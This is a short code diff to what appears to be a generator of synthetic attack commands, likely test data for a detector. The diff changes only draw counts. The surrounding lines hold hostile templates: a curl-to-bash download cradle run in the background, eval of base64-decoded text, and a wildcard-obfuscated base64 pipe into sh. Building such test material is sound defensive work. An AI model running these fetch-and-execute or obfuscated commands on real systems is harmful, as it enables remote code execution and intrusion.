@@ -64,7 +64,7 @@ const cradle: Attack = {
       `eval "$(echo ${text} | base64 -d)"`,
       `curl -s ${from} | tee /dev/null | nohup bash > /dev/null 2>&1 &`,
     ];
-    return [...look(draw, draw.int(0, 3)), ...draw.some(ways, draw.int(1, 3)), ...look(draw, draw.int(1, 2))];
+    return [...look(draw, draw.int(1, 3)), ...draw.some(ways, draw.int(1, 3)), ...look(draw, draw.int(1, 2))];
   },
 };
 
@@ -109,7 +109,7 @@ const obfuscated: Attack = {
       `/???/b??e64 -d <<< ${Buffer.from(`${what()}\n`).toString('base64')} | /???/sh`,
       `{cat,/etc/hostname}; {ls,-la,/home}`,
     ];
-    return [...look(draw, draw.int(0, 2)), ...draw.some(ways, draw.int(2, 7)), ...look(draw, draw.int(0, 2))];
+    return [...look(draw, draw.int(1, 2)), ...draw.some(ways, draw.int(2, 7)), ...look(draw, draw.int(0, 2))];
   },
 };
 
